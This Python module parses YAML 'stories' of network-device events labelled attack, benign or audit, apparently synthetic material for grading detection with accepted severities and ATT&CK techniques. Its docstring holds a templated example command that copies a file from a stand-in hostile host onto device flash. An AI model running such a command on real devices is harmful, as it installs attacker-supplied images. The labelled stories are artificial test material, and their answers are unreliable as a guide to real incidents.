"""What a story is, and how ``stories/*.yaml`` says it: one step a line, ``+5m tac copy tftp://{bad}/{evil} flash:``.

A step is the time since the step before (``s m h d``), the channel that reports it (``lines.py``) and what was done.
``/b`` after the channel means the second device, ``@name`` another user, ``!`` a command that failed; a line that
begins with ``?`` is left out by some seeds. ``{words}`` are filled from the story's device and the world around it.
"""

import re
from dataclasses import dataclass
from enum import StrEnum
from pathlib import Path
from typing import Any

import yaml

_STEP = re.compile(r"(\?)?\+(\d+)([smhd]?)\s+([a-z0-9]+)(?:/([a-z]))?(?:@(\S+?))?(!)?(?:\s+(.*))?")
_SECONDS = {"": 1, "s": 1, "m": 60, "h": 3600, "d": 86_400}
_WORDS = "id os about steps severity technique from user devices role listed change allow start steady platform"
_KEYS = frozenset(re.findall(r"\w+", _WORDS))


class Kind(StrEnum):
    ATTACK = "attack"
    BENIGN = "benign"
    AUDIT = "audit"


@dataclass(frozen=True, slots=True)
class Step:
    """One thing that happens: ``after_s`` seconds after the step before."""

    optional: bool
    after_s: int
    channel: str
    device: str
    user: str | None
    failed: bool
    text: str


@dataclass(frozen=True, slots=True)
class Change:
    """The record a change-management tool holds about a story: which export it is in and what it approves."""

    file: str
    summary: str
    image: str
    weekly: bool
    """In a calendar: a window that comes back every week."""
    devices: str
    """The letters of the devices it is for."""
    spelt: str
    """How it writes hosts: ``name``, ``fqdn``, ``upper`` or ``ip``."""
    until: int
    """The window ends ten minutes after this step; 0 for one that holds the whole story."""


@dataclass(frozen=True, slots=True)
class Story:
    """A labelled story; ``severities`` and ``techniques`` are every answer an analyst would accept.

    ``T1685*`` is any technique of that family: where logging is cut, v19 and older releases of ATT&CK differ.
    """

    id: str
    kind: Kind
    os: str
    about: str
    steps: tuple[Step, ...]
    severities: tuple[str, ...] = ()
    techniques: tuple[str, ...] = ()
    source: str = "jump"
    user: str = "{op}"
    devices: int = 1
    role: str = "production"
    listed: bool = True
    """Whether the inventory holds its devices."""
    change: Change | None = None
    allow: bool = False
    start: str | None = None
    """Clock time such as ``02:10`` at which it begins; any hour where it does not matter."""
    steady_days: int = 0
    """Days of even traffic before it begins, for stories that are told by what is missing."""
    platform: str | None = None


def load(folder: Path | None = None) -> list[Story]:
    """Every story of the folder, by file and order in it; the first word of a file's name is the kind."""
    folder = folder or Path(__file__).with_name("stories")
    stories = [
        _story(path, Kind(path.name.split("-")[0].removesuffix(".yaml")), entry)
        for path in sorted(folder.glob("*.yaml"))
        for entry in yaml.safe_load(path.read_text(encoding="utf-8"))
    ]
    if twice := {story.id for story in stories if sum(other.id == story.id for other in stories) > 1}:
        raise ValueError(f"stories that share an id: {', '.join(sorted(twice))}")
    return stories


def _story(path: Path, kind: Kind, entry: dict[str, Any]) -> Story:
    name = entry.get("id", "?")
    if unknown := set(entry) - _KEYS:
        raise ValueError(
            f"{path.name}, {name}: unknown {', '.join(sorted(unknown))}; known: {', '.join(sorted(_KEYS))}"
        )
    if kind is Kind.ATTACK and not (entry.get("severity") and entry.get("technique")):
        raise ValueError(f"{path.name}, {name}: an attack says its severity and technique")
    change = entry.get("change")
    return Story(
        id=name,
        kind=kind,
        os=entry["os"],
        about=entry["about"],
        steps=tuple(_step(path, name, line) for line in entry["steps"].splitlines() if line.strip()),
        severities=tuple(str(entry.get("severity", "")).split()),
        techniques=tuple(str(entry.get("technique", "")).split()),
        source=entry.get("from", "jump"),
        user=entry.get("user", "{op}"),
        devices=int(entry.get("devices", 1)),
        role=entry.get("role", "production"),
        listed=entry.get("listed", True),
        change=None
        if change is None
        else Change(
            change["file"],
            change["summary"],
            change.get("image", ""),
            change.get("weekly", False),
            change.get("devices", "abc"),
            change.get("spelt", "name"),
            int(change.get("until", 0)),
        ),
        allow=entry.get("allow", False),
        start=entry.get("start"),
        steady_days=int(entry.get("steady", 0)),
        platform=entry.get("platform"),
    )


def _step(path: Path, name: str, line: str) -> Step:
    found = _STEP.fullmatch(line.strip())
    if found is None:
        raise ValueError(f"{path.name}, {name}: {line.strip()!r} is no step such as '+5m tac copy tftp: flash:'")
    optional, count, unit, channel, device, user, failed, text = found.groups()
    return Step(
        optional is not None, int(count) * _SECONDS[unit], channel, device or "a", user, failed is not None, text or ""
    )
